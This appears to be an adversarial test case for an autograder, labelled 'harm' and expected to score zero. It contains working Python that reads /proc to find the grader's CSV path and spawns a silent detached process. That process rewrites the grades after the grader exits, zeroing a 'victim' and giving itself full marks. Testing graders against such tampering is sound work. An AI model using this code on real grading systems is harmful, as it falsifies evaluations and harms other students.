# kind: harm
# what: starts a detached child (own session, via setsid) that waits for `realdata grade` to exit and then rewrites the CSV (victim 0, itself full marks)
# expect-total: 0.00
# cell 1.1
import os
import subprocess
import sys

_CHILD = r'''
import csv, os, sys, time
csv_path, grade_pid = sys.argv[1], int(sys.argv[2])
end = time.time() + 200
while time.time() < end and os.path.exists(f"/proc/{grade_pid}"):
    time.sleep(0.2)
time.sleep(1.0)
try:
    with open(csv_path, newline="") as f:
        rows = list(csv.reader(f))
except OSError:
    sys.exit(0)
header = rows[0]
for row in rows[1:]:
    text = " ".join(row)
    for i, h in enumerate(header):
        if i >= len(row):
            continue
        hl = h.lower()
        if "victim" in text:
            if hl.startswith("total") or hl[:1].isdigit():
                row[i] = "0.00"
        elif "student" in text:
            if hl.startswith("total"):
                row[i] = "5.00"
            elif hl[:1].isdigit():
                row[i] = "1.00"
            elif hl.startswith("problem"):
                row[i] = ""
with open(csv_path, "w", newline="") as f:
    csv.writer(f).writerows(rows)
'''


def _ancestors():
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 20:
        try:
            cmd = [c.decode(errors="replace") for c in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0") if c]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        out.append((pid, cmd, cwd))
        pid = ppid
    return out


for _pid, _cmd, _cwd in _ancestors():
    if "--csv" in _cmd:
        _p = _cmd[_cmd.index("--csv") + 1]
        _csv = _p if os.path.isabs(_p) else os.path.join(_cwd, _p)
        subprocess.Popen([sys.executable, "-c", _CHILD, _csv, str(_pid), "rdcase-leftover"],
                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, close_fds=True)
        print("detached rewriter started for", _csv)
        break
